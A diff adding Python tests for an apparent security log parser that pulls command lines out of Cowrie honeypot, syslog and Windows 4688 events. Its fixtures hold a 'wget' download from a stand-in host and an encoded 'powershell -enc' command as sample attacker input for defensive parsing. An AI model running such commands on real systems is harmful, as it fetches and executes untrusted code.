@@ -116,3 +116,18 @@ def test_no_value_of_another_type_stops_a_reader(odd):
 def test_examples_of_the_agents_lines_hold():
     failed, tried = doctest.testmod(aiscore_contract.forms.agents)
     assert tried and not failed
+
+
+@pytest.mark.parametrize("event", [
+    {"eventid": "cowrie.command.input", "input": "ls\nwget http://a.example/x", "src_ip": "203.0.113.9"},
+    {"program": "bash", "hostname": "web3", "facility": "user", "message": "ls\nwget http://a.example/x"}])
+def test_all_lines_of_a_command_are_read(event):
+    fields = read_facts(json.dumps(event), "").fields
+    assert "wget http://a.example/x" in fields["commandline"] and fields["image"] == "/ls"
+
+
+def test_a_command_that_holds_the_sign_between_details_hides_nothing_of_itself():
+    details = "Cmdline: powershell ¦ -enc AAAA ¦ Proc: C:\\x.exe ¦ Cmdline: notepad"
+    for event in (json.dumps({"RuleTitle": "x", "Channel": "Sec", "EventID": 4688, "Computer": "ws1", "Details": details}),
+                  f'"2031-03-14 10:11:12.000 +00:00","x","high","ws1","Sec",4688,123,"{details}",""'):
+        assert read_facts(event, "").fields["commandline"] == "powershell ¦ -enc AAAA"
